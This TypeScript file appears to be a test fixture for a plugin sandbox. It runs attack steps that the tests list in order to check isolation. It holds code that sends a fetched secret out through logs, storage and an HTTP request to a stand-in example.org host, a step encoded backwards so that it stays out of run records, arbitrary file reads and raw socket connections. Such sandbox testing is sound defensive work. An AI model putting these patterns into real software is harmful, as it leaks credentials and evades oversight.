/** Does what its input lists, and answers what came of each step: one approved pack for every attack. */
import { readFileSync } from 'node:fs'
import { connect } from 'node:net'
import { capability, http, type Block, type BlockContext, type HttpRequest, type JsonValue } from '@rumi/pack-sdk'

/** What this process was given, also in an earlier call. */
const remembered: string[] = []

type Args = { readonly [key: string]: JsonValue }

/** What the tests ask for. */
type Step =
  | readonly ['call', string, Args]
  | readonly ['request' | 'context_request', HttpRequest]
  | readonly ['shortcuts', string]
  | readonly ['check' | 'connect', string, number]
  | readonly ['many', number, string, Args]
  | readonly ['repeat' | 'beacon', number, HttpRequest]
  | readonly ['large', number]
  | readonly ['hidden', string]
  | readonly ['leak' | 'scream', string]
  | readonly ['read', string]
  | readonly ['recall']
  | readonly ['linger', string, Args]

export const run: Block<{ readonly steps: readonly Step[] }> = async ({ steps }, context) => {
  const answers: JsonValue[] = []
  for (const step of steps) answers.push(plain(await perform(step, context)))
  return answers
}

function plain(value: unknown): JsonValue {
  return JSON.parse(JSON.stringify(value ?? null))
}

function perform(step: Step, context: BlockContext): unknown {
  switch (step[0]) {
    case 'call':
      return capability.call(step[1], step[2])
    case 'request':
      return http.request(step[1])
    case 'context_request':
      return context.http_request(step[1])
    case 'shortcuts':
      return sayInEveryWay(step[1])
    case 'check':
      return context.network_check(step[1], step[2])
    case 'connect':
      return reach(step[1], step[2])
    case 'many':
      return count(Array.from({ length: step[1] }, () => capability.call(step[2], step[3])))
    case 'repeat':
      return repeat(step[1], step[2])
    case 'beacon':
      return repeat(step[1], step[2])
    case 'large':
      return set('mine', 'k', 'x'.repeat(step[1]))
    case 'hidden':
      return hide(step[1], context)
    case 'leak':
      return leak(step[1])
    case 'scream':
      return scream(step[1])
    case 'read':
      return attempt(() => readFileSync(step[1]))
    case 'recall':
      return remembered
    case 'linger':
      setInterval(() => void capability.call(step[1], step[2]), 1)
      return 'answered'
    default:
      throw new Error('there is no such step')
  }
}

async function sayInEveryWay(url: string): Promise<unknown> {
  return [
    await http.get(url),
    await http.post(url, 'text'),
    await http.postJson(url, { a: 1 }),
    await http.put(url, 'text'),
    await http.delete(url),
    await http.patch(url, 'text'),
    await http.head(url),
  ]
}

async function count(answers: readonly Promise<{ readonly error_type: string | null }>[]): Promise<unknown> {
  const outcomes = (await Promise.all(answers)).map((answer) => answer.error_type ?? 'ok')
  return Object.fromEntries(
    [...new Set(outcomes)].map((one) => [one, outcomes.filter((other) => other === one).length]),
  )
}

async function repeat(times: number, wish: HttpRequest): Promise<unknown> {
  const answers = []
  for (let left = times; left > 0; left -= 1) answers.push(Promise.resolve(await http.request(wish)))
  return count(answers)
}

async function set(storeId: string, key: string, value: string): Promise<string | null> {
  return (await capability.call('store.set', { store_id: storeId, key, value })).error_type
}

/** A step that is written backwards, so that it is in no record of the run; neither is what came of it. */
async function hide(text: string, context: BlockContext): Promise<unknown> {
  const step: Step = JSON.parse(Array.from(text).toReversed().join(''))
  const done = plain(await perform(step, context))
  return typeof done === 'object' && done !== null && 'success' in done ? [done.success, done['error_type']] : done
}

async function fetchSecret(key: string): Promise<string> {
  const { output } = await capability.call('secrets.get', { key })
  const isGiven = typeof output === 'object' && output !== null && 'value' in output
  return isGiven && typeof output.value === 'string' ? output.value : ''
}

/** Shows a secret in every way that a block has. */
async function leak(key: string): Promise<unknown> {
  const value = await fetchSecret(key)
  const bytes = Buffer.from(value)
  remembered.push(value)
  console.log(value)
  console.error(value)
  const kept = await set('mine', 'leak', value)
  await set(value, value, '1')
  await capability.call(value, { principal_id: value }, { requestId: value })
  await http.get(`https://${value.toLowerCase()}.example.org/${value}?q=${value}`, { headers: { 'X-Key': value } })
  return {
    length: value.length,
    kept,
    plain: value,
    base64: bytes.toString('base64'),
    url: bytes.toString('base64url'),
    hex: bytes.toString('hex'),
    percent: encodeURIComponent(value),
    [value]: 'as a key',
  }
}

async function scream(key: string): Promise<never> {
  throw new Error(await fetchSecret(key))
}

function attempt(act: () => unknown): string {
  try {
    act()
    return 'done'
  } catch (error) {
    return error instanceof Error && 'code' in error ? String(error.code) : 'error'
  }
}

function reach(host: string, port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ host, port, timeout: 1000 }, () => resolve('done'))
    socket.on('error', (error) => resolve('code' in error ? String(error.code) : 'error'))
  })
}
